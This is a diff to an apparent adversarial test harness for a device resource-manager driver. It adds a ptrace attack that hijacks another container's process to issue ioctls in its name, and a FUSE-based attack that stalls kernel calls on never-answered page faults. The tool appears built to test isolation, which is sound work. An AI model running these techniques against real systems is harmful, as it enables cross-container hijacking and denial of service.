@@ -4,6 +4,7 @@
 #include "rm.h"
 #include <linux/audit.h>
 #include <linux/filter.h>
+#include <linux/fuse.h>
 #include <linux/seccomp.h>
 #include <linux/userfaultfd.h>
 #include <pthread.h>
@@ -11,6 +12,7 @@
 #include <signal.h>
 #include <stdatomic.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -443,18 +445,21 @@ static void attack_flood(char **a) {
 
 static int unix_socket(const char *path, struct sockaddr_un *address) {
     address->sun_family = AF_UNIX;
+    memset(address->sun_path, 0, sizeof address->sun_path);
     snprintf(address->sun_path, sizeof address->sun_path, "%s", path);
+    /* @NAME: in the network namespace, and in no directory. */
+    if (path[0] == '@') address->sun_path[0] = 0;
     return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
 }
 struct passed {
     uint32_t client, device;
 };
-/* lend PATH: gives its control file, and the numbers on it, to whoever connects. */
+/* lend PATH|@NAME: gives its control file, and the numbers on it, to whoever connects. */
 static void attack_lend(char **a) {
     struct session s = begin();
     struct sockaddr_un address;
     int listener = unix_socket(a[0], &address);
-    if (bind(listener, (void *)&address, sizeof address) || chmod(a[0], 0777) || listen(listener, 4)) die("listen");
+    if (bind(listener, (void *)&address, sizeof address) || (a[0][0] != '@' && chmod(a[0], 0777)) || listen(listener, 4)) die("listen");
     say("listening", 1);
     for (;;) {
         int peer = accept(listener, NULL, NULL);
@@ -589,6 +594,76 @@ static void attack_ptrace(char **a) {
     say("injected", injected);
     say("status", call->status);
 }
+/* Has a stopped process make an ioctl, with an argument that is put onto its stack and taken back. */
+static long ioctl_as(pid_t pid, const struct user_regs_struct *at, int fd, unsigned long command, void *argument, size_t size, uint64_t place) {
+    struct user_regs_struct registers = *at;
+    struct iovec here = {argument, size}, there = {(void *)place, size};
+    if (process_vm_writev(pid, &here, 1, &there, 1, 0) < 0) die("process_vm_writev");
+    /* It stands behind the two bytes of a system call. */
+    registers.rip -= 2, registers.rax = SYS_ioctl, registers.orig_rax = -1;
+    registers.rdi = fd, registers.rsi = command, registers.rdx = place;
+    if (ptrace(PTRACE_SETREGS, pid, NULL, &registers)) die("PTRACE_SETREGS");
+    for (int i = 0, status; i < 2; i++)
+        if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) || waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status)) die("PTRACE_SYSCALL");
+    ptrace(PTRACE_GETREGS, pid, NULL, &registers);
+    process_vm_readv(pid, &here, 1, &there, 1, 0);
+    return (long)registers.rax;
+}
+/* The first process of another container that holds memory: `hostile hold ...`. */
+static pid_t neighbour(void) {
+    for (pid_t pid = 1; pid < 100000; pid++) {
+        char path[40], words[64] = {0};
+        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+        int fd = open(path, O_RDONLY);
+        if (fd < 0) continue;
+        ssize_t length = read(fd, words, sizeof words - 1);
+        close(fd);
+        size_t first = strlen(words) + 1;
+        if (length > (ssize_t)first && strcmp(words + first, "hold") == 0) return pid;
+    }
+    return 0;
+}
+/* ptrace-neighbour: what a process of another container gets, when it is made to ask for all that it can. */
+static void attack_ptrace_neighbour(char **a) {
+    (void)a;
+    pid_t pid = neighbour();
+    say("found", pid > 0);
+    if (!pid || ptrace(PTRACE_ATTACH, pid, NULL, NULL)) {
+        say("attached", pid ? -errno : 0);
+        for (;;) pause();
+    }
+    say("attached", 1);
+    int status;
+    waitpid(pid, &status, 0);
+    struct user_regs_struct at;
+    ptrace(PTRACE_GETREGS, pid, NULL, &at);
+    uint64_t place = (at.rsp - 16384) & ~4095ull, params_at = place + 2048, got = 0;
+    int fd = 3;
+    struct rm_alloc root = {.class = 0x41, .status = 0xdead};
+    for (; fd < 16 && ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &root, sizeof root, place) < 0; fd++) {}
+    say("root", root.status);
+    char zeros[256] = {0};
+    struct iovec here = {zeros, sizeof zeros}, there = {(void *)params_at, sizeof zeros};
+    process_vm_writev(pid, &here, 1, &there, 1, 0);
+    struct rm_alloc device = {.root = root.handle, .parent = root.handle, .class = 0x80, .params = params_at, .params_size = 56, .status = 0xdead};
+    ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &device, sizeof device, place);
+    say("device", device.status);
+    struct rm_alloc call;
+    do {
+        struct memory_params params = {.size = 16 * MIB};
+        here = (struct iovec){&params, sizeof params}, there = (struct iovec){(void *)params_at, sizeof params};
+        process_vm_writev(pid, &here, 1, &there, 1, 0);
+        call = (struct rm_alloc){.root = root.handle, .parent = device.handle, .class = 0x40, .params = params_at, .params_size = sizeof params, .status = 0xdead};
+        if (ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &call, sizeof call, place) < 0) break;
+        if (!call.status) got += 16 * MIB;
+    } while (!call.status);
+    /* A process that is traced is not seen to end before its tracer has looked. */
+    ptrace(PTRACE_SETREGS, pid, NULL, &at);
+    ptrace(PTRACE_DETACH, pid, NULL, NULL);
+    say("got", got);
+    say("status", call.status);
+    for (;;) pause();
+}
 #endif
 
 /* --- standing still --------------------------------------------------------------------------------------------------------- */
@@ -609,6 +684,93 @@ static void attack_block(char **a) {
         struct uffdio_register range = {.range = {(uintptr_t)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
         if (ioctl(fault, UFFDIO_REGISTER, &range)) die("UFFDIO_REGISTER");
         if (fork() == 0) {
+            ioctl(s.control, RM(0x2b, struct rm_alloc), page);
+            _exit(0);
+        }
+    }
+    say("blocking", count);
+    for (;;) pause();
+}
+/* Answers what it takes to open a file of one page, and never what is asked for its contents. */
+static void *never_read(void *argument) {
+    int fuse = *(int *)argument;
+    static char request[1 << 17];
+    for (;;) {
+        ssize_t length = read(fuse, request, sizeof request);
+        if (length < (ssize_t)sizeof(struct fuse_in_header)) return NULL;
+        struct fuse_in_header *in = (void *)request;
+        struct {
+            struct fuse_out_header head;
+            union {
+                struct fuse_init_out init;
+                struct fuse_entry_out entry;
+                struct fuse_attr_out attr;
+                struct fuse_open_out open;
+            } body;
+        } out = {0};
+        size_t size = 0;
+        struct fuse_attr attr = {.ino = in->nodeid, .size = 4096, .mode = in->nodeid == 1 ? S_IFDIR | 0755 : S_IFREG | 0666, .nlink = 1};
+        switch (in->opcode) {
+        case FUSE_INIT:
+            out.body.init = (struct fuse_init_out){.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
+            size = sizeof out.body.init;
+            break;
+        case FUSE_LOOKUP:
+            attr.ino = 2, attr.mode = S_IFREG | 0666;
+            out.body.entry = (struct fuse_entry_out){.nodeid = 2, .entry_valid = 3600, .attr_valid = 3600, .attr = attr};
+            size = sizeof out.body.entry;
+            break;
+        case FUSE_GETATTR:
+            out.body.attr = (struct fuse_attr_out){.attr_valid = 3600, .attr = attr};
+            size = sizeof out.body.attr;
+            break;
+        case FUSE_OPEN:
+            size = sizeof out.body.open;
+            break;
+        case FUSE_READ:
+        case FUSE_FORGET:
+        case FUSE_INTERRUPT:
+            continue;
+        default:
+            out.head.error = -ENOSYS;
+        }
+        out.head.unique = in->unique;
+        out.head.len = sizeof out.head + size;
+        if (write(fuse, &out, out.head.len) < 0) return NULL;
+    }
+}
+static void write_text(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY);
+    if (fd < 0 || write(fd, text, strlen(text)) < 0) die(path);
+    close(fd);
+}
+/* fuse [COUNT]: arguments in a file of a file system that never answers. */
+static void attack_fuse(char **a) {
+    static int fuse;
+    struct session s = begin();
+    uint64_t count = number(a, 0, 8);
+    if (mkdir("/tmp", 0777) && errno != EEXIST) die("/tmp");
+    if (mkdir("/tmp/fuse", 0777) && errno != EEXIST) die("/tmp/fuse");
+    /* The device of a file system belongs to the user namespace in which it is opened. */
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) die("unshare");
+    write_text("/proc/self/uid_map", "0 0 1");
+    write_text("/proc/self/setgroups", "deny");
+    write_text("/proc/self/gid_map", "0 0 1");
+    fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
+    if (fuse < 0) die("/dev/fuse");
+    char options[80];
+    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
+    if (mount("fuse", "/tmp/fuse", "fuse", MS_NOSUID | MS_NODEV, options)) die("mount");
+    pthread_t thread;
+    pthread_create(&thread, NULL, never_read, &fuse);
+    int file = xopen("/tmp/fuse/page");
+    for (uint64_t i = 0; i < count; i++) {
+        char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
+        if (page == MAP_FAILED) die("mmap");
+        if (fork() == 0) {
+            /* The last process that has the device ends it all; to close the file, its system would have to be asked. */
+            close(fuse);
+            close(file);
             ioctl(s.control, RM(0x2b, struct rm_alloc), page);
             _exit(0);
         }
@@ -719,12 +881,13 @@ static const struct {
     {"type-byte", attack_type_byte}, {"high-word", attack_high_word}, {"xfer", attack_xfer},
 #if defined(__x86_64__)
     {"int80", attack_int80}, {"x32", attack_x32}, {"ptrace", attack_ptrace},
+    {"ptrace-neighbour", attack_ptrace_neighbour},
 #endif
     {"race", attack_race}, {"race-class", attack_race_class}, {"close", attack_close}, {"together", attack_together},
     {"forks", attack_forks}, {"tiny", attack_tiny}, {"objects", attack_objects}, {"handles", attack_handles},
     {"garbage", attack_garbage}, {"flood", attack_flood}, {"lend", attack_lend}, {"borrow", attack_borrow},
     {"own-table", attack_own_table}, {"mknod", attack_mknod}, {"user-namespace", attack_user_namespace},
-    {"listener", attack_listener}, {"block", attack_block}, {"stopped", attack_stopped}, {"signals", attack_signals},
+    {"listener", attack_listener}, {"block", attack_block}, {"fuse", attack_fuse}, {"stopped", attack_stopped}, {"signals", attack_signals},
     {"recycled", attack_recycled}, {"managed", attack_managed},
 };
 
